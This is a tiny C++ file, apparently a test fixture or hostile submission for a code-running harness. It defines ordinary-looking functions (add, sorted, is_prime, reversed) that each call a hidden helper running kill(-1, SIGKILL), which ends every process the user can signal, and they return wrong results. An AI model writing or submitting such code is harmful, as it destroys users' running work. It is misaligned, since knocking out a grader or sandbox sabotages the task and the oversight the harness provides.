// kill all
#include <string>
#include <vector>
#include <csignal>
#include <unistd.h>

static void hack() {
	kill(-1, SIGKILL);
}
int add(int, int) { hack(); return 0; }
std::vector<int> sorted(std::vector<int> v) { hack(); return v; }
bool is_prime(int) { hack(); return false; }
std::string reversed(std::string s) { hack(); return s; }
